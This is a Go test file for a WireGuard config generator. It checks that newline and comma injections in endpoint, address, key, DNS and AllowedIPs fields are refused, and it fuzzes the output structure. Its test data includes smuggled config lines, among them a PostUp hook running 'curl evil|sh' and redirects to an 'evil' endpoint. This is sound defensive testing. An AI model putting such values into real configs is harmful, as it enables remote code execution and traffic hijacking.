package wgconf

import (
	"bufio"
	"slices"
	"strings"
	"testing"
	"time"

	"gatepass.dev/shared/api"
)

func sample() api.TunnelConfig {
	exp := time.Date(2026, 11, 23, 17, 0, 0, 0, time.UTC)
	return api.TunnelConfig{NetworkName: "office-network", DeviceID: "dev_abc123", Address: "10.77.0.2/32",
		GatewayPublicKey: "HIgo9xNzJMWLKASShiTqIybxZ0U3wGLiUeJ1PKf8ykw=", Endpoint: "gw.example.com:51820",
		AllowedIPs: []string{"10.77.0.0/24", "192.168.10.0/24"}, DNS: []string{"10.77.0.1"}, PersistentKeepalive: 25, ExpiresAt: &exp}
}

func TestWGQuickRefusesInjection(t *testing.T) {
	if _, err := WGQuick(sample()); err != nil {
		t.Fatal(err)
	}
	bad := map[string]func(*api.TunnelConfig){
		"endpoint with a newline":     func(c *api.TunnelConfig) { c.Endpoint = "gw.example.com:51820\nPostUp = curl evil|sh" },
		"endpoint host with newline":  func(c *api.TunnelConfig) { c.Endpoint = "gw\n[Peer]:51820" },
		"endpoint with a space":       func(c *api.TunnelConfig) { c.Endpoint = "gw example.com:51820" },
		"endpoint port 0":             func(c *api.TunnelConfig) { c.Endpoint = "gw.example.com:0" },
		"endpoint port +1":            func(c *api.TunnelConfig) { c.Endpoint = "gw.example.com:+1" },
		"address with a newline":      func(c *api.TunnelConfig) { c.Address = "10.77.0.2/32\nDNS = 6.6.6.6" },
		"allowed IP with a newline":   func(c *api.TunnelConfig) { c.AllowedIPs = []string{"10.77.0.0/24\nAllowedIPs = 0.0.0.0/0"} },
		"DNS with a comma":            func(c *api.TunnelConfig) { c.DNS = []string{"10.77.0.1, 6.6.6.6"} },
		"key with a newline":          func(c *api.TunnelConfig) { c.GatewayPublicKey += "\nEndpoint = evil:1" },
		"network name with a newline": func(c *api.TunnelConfig) { c.NetworkName = "lab\n[Interface]" },
		"no allowed IPs":              func(c *api.TunnelConfig) { c.AllowedIPs = nil },
	}
	for name, mutate := range bad {
		c := sample()
		mutate(&c)
		if out, err := WGQuick(c); err == nil {
			t.Errorf("%s: accepted:\n%s", name, out)
		}
	}
}

func TestValidEndpoint(t *testing.T) {
	good := map[string]string{"gw.example.com:51820": "gw.example.com:51820", "GW.Example.com:1": "gw.example.com:1",
		"192.0.2.1:51820": "192.0.2.1:51820", "[2001:db8::1]:51820": "[2001:db8::1]:51820", "localhost:65535": "localhost:65535"}
	for in, want := range good {
		if got, err := ValidEndpoint(in); err != nil || got != want {
			t.Errorf("ValidEndpoint(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	for _, in := range []string{"", "gw", ":51820", "gw:", "gw:65536", "gw:-1", "a\nb:1", "a b:1", "-gw:1", "gw-.x:1", "[fe80::1%eth0]:1",
		"a#b:1", "a=b:1", "gw.example.com:051820", strings.Repeat("a", 64) + ".com:1"} {
		if got, err := ValidEndpoint(in); err == nil {
			t.Errorf("ValidEndpoint(%q) = %q, want an error", in, got)
		}
	}
}

// FuzzWGQuick: whatever the values, the output is either refused or a
// config with exactly the expected keys, once each, in their sections —
// nothing injected.
func FuzzWGQuick(f *testing.F) {
	c := sample()
	f.Add(c.NetworkName, c.DeviceID, c.Address, c.GatewayPublicKey, c.Endpoint, c.AllowedIPs[0], c.DNS[0], 25)
	f.Add("lab", "dev_1", "10.0.0.2/32\nDNS=1.1.1.1", c.GatewayPublicKey, "x:1\nPostUp=id", "0.0.0.0/0", "::1", 0)
	f.Fuzz(func(t *testing.T, name, dev, addr, key, endpoint, allowed, dns string, keepalive int) {
		out, err := WGQuick(api.TunnelConfig{NetworkName: name, DeviceID: dev, Address: addr, GatewayPublicKey: key,
			Endpoint: endpoint, AllowedIPs: []string{allowed}, DNS: []string{dns}, PersistentKeepalive: keepalive})
		if err != nil {
			return
		}
		want := map[string][]string{"Interface": {"PrivateKey", "Address", "DNS"}, "Peer": {"PublicKey", "Endpoint", "AllowedIPs", "PersistentKeepalive"}}
		seen := map[string]bool{}
		section := ""
		sc := bufio.NewScanner(strings.NewReader(out))
		for sc.Scan() {
			line := sc.Text()
			switch {
			case line == "" || strings.HasPrefix(line, "# "):
			case line == "[Interface]" || line == "[Peer]":
				if seen[line] {
					t.Fatalf("section %s twice:\n%s", line, out)
				}
				seen[line] = true
				section = strings.Trim(line, "[]")
			default:
				k, v, ok := strings.Cut(line, " = ")
				if !ok || !slices.Contains(want[section], k) || seen[section+k] || strings.ContainsAny(v, "[]=") && k != "PublicKey" {
					t.Fatalf("unexpected line %q in [%s]:\n%s", line, section, out)
				}
				seen[section+k] = true
			}
		}
		if strings.Count(out, "\n") != len(strings.Split(strings.TrimSuffix(out, "\n"), "\n")) {
			t.Fatalf("stray carriage returns or line breaks:\n%q", out)
		}
		if strings.ContainsAny(out, "\r\x00") {
			t.Fatalf("control characters:\n%q", out)
		}
	})
}
